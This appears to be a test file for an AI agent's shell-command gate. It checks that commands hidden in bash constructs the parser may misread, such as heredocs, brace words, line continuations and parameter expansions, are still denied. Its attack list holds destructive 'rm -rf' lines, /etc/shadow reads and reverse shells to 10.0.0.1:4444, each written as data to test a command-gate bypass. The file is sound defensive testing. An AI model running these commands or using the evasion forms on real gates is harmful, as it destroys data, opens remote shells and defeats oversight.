// Class: the constructs where a parser is likely to read a command differently from bash, or where the
// tree-sitter glue repairs tree-sitter's reading (test/policies/shell-bash-oracle.e2e.test.ts compares
// the parser with real bash and lists what is left). Each attack hides a denied command in the construct
// and goes through the real gate (`decide`) under the most permissive policy that still has the denylist:
// toolPolicy allow, every visible command name auto-approved, the classifier saying read-only, an approver
// bound. The gate must deny it (absolute): the denied command is found, or the text is refused.
import { execFileSync } from 'node:child_process';
import { type AgentPolicy, decide } from '../../../policies/gate.js';
import { analyzeCommand } from '../../../policies/shell/index.js';
import { initTreeSitter, parseShell as treeSitter } from '../../../policies/shell/syntax/tree-sitter.js';

const ATTACKS: ReadonlyArray<readonly [string, string]> = [
  ['time/coproc', 'time rm -rf /'],
  ['time/coproc', 'time -p rm -rf /'],
  ['time/coproc', 'time ls | rm -rf /'],
  ['time/coproc', 'coproc rm -rf /'],
  ['time/coproc', 'time { rm -rf /; }'],
  ['time/coproc', 'coproc x { rm -rf /; }'],
  ['quoted heredoc delimiter', "bash <<'EOF'\nrm -rf /\nEOF"],
  ['quoted heredoc delimiter', 'sh <<"EOF"\nrm -rf ~\nEOF'],
  ['reserved word as a command', 'ls; done; rm -rf /'],
  ['reserved word as a command', 'fi; rm -rf /'],
  ['extglob', 'cat /etc/@(shadow)'],
  ['extglob', 'rm -rf /@(etc|usr)'],
  ['heredoc line list', 'cat <<EOF | sh\nrm -rf /\nEOF'],
  ['heredoc line list', 'cat <<EOF && rm -rf /\nx\nEOF'],
  ['heredoc line list', 'cat <<EOF | ls && rm -rf ~\nx\nEOF'],
  ['heredoc line list', 'cat <<EOF |\nrm -rf /\nEOF\nsh'],
  ['brace word as the command', '{rm,-rf,/}'],
  ['brace word as the command', 'ls; {rm,-rf,~}'],
  ['brace word as the command', '({rm,-rf,/})'],
  ['fd after a redirect', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
  ['fd after a redirect', 'sh -i > /dev/tcp/10.0.0.1/4444 0>&1 2>&1'],
  ['read-write redirect', 'exec 3<>/dev/tcp/host/80'],
  ['backquotes in a heredoc', 'cat <<EOF\n`rm -rf /`\nEOF'],
  ['backquotes in a heredoc', 'julia <<EOF\nrun(`id`)\nEOF'],
  ['indented heredoc line', 'cat <<EOF\n\t$(rm -rf /)\nEOF'],
  ['indented heredoc line', 'cat <<-EOF\n\t$(rm -rf /)\n\tEOF'],
  ['indented heredoc line', 'bash <<EOF\nset -e\n  $(rm -rf ~)\nEOF'],
  ['indented heredoc line', 'cat <<EOF\n  `rm -rf /`\nEOF'],
  ['indented heredoc line', 'cat <<EOF\nx\n  ${v:-$(rm -rf /)}\nEOF'],
  ['substitution in a ${x#pattern}', 'echo ${x#$(rm -rf /)}'],
  ['substitution in a ${x#pattern}', 'echo ${x%%`rm -rf ~`}'],
  ['nested backquotes', 'echo `echo \\`rm -rf /\\``'],
  ['backquotes in a ${x:-word}', 'echo ${x:-`rm -rf /`}'],
  ['backquotes in a ${x:-word}', 'echo "${x:-`rm -rf ~`}"'],
  ['# inside a word', 'echo "x"#; rm -rf /'],
  ['function without braces', 'function f rm -rf /'],
  // bash joins a word across a backslash-newline; tree-sitter splits it (`r` `m -rf /`)
  ['line continuation inside a word', 'r\\\nm -rf /'],
  ['line continuation inside a word', 'cat /etc/shad\\\now'],
  ['line continuation inside a word', 'echo $(r\\\nm -rf ~)'],
];

const policy: AgentPolicy = {
  name: 'ops',
  tier: 'high-risk',
  autoApprovedTools: ['execute_command'],
  autoApprovedCommands: ['time', 'coproc', 'ls', 'cat', 'echo', 'bash', 'sh', 'julia', 'exec', 'x', 'f', 'function'],
  approvers: { console: ['local'] },
  toolPolicy: { execute_command: 'allow' },
};

beforeAll(async () => {
  await initTreeSitter();
});

describe('the gate', () => {
  const analyze = (command: string) => analyzeCommand(command, treeSitter);

  test.each(ATTACKS.map(([cls, c]) => [cls, c]))('%s: the gate denies %j', async (_cls, command) => {
    const d = await decide({ toolName: 'execute_command', toolTier: 'unknown', platform: 'console', command, hasOptions: false }, () => policy, {
      classify: async () => ({ tier: 'read-only' }),
      analyze,
    });
    expect(d).toEqual(expect.objectContaining({ action: 'deny', absolute: true }));
  });

  test('the same policy lets the visible commands alone through (the denial is the hidden one)', async () => {
    const d = await decide({ toolName: 'execute_command', toolTier: 'unknown', platform: 'console', command: 'time ls', hasOptions: false }, () => policy, {
      classify: async () => ({ tier: 'read-only' }),
      analyze,
    });
    expect(d.action).toBe('allow');
  });
});

// "${x:-'$(cmd)'}": inside double quotes the single quotes are text and bash runs the substitution.
// A parser that reads them as quotes misses it (mvdan/sh did); the tree-sitter glue refuses the form.
test('tree-sitter refuses a substitution in single quotes inside "${...}", which bash runs', async () => {
  const out = execFileSync('bash', ['-c', `echo "\${x:-'$(echo PWNED)'}"`], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '' } });
  expect(out).toContain('PWNED');
  const command = `echo "\${x:-'$(rm -rf /)'}"`;
  const d = await decide({ toolName: 'execute_command', toolTier: 'unknown', platform: 'console', command, hasOptions: false }, () => policy, {
    classify: async () => ({ tier: 'read-only' }),
    analyze: (c) => analyzeCommand(c, treeSitter),
  });
  expect(d).toEqual(expect.objectContaining({ action: 'deny', absolute: true, rule: 'unparseable' }));
});
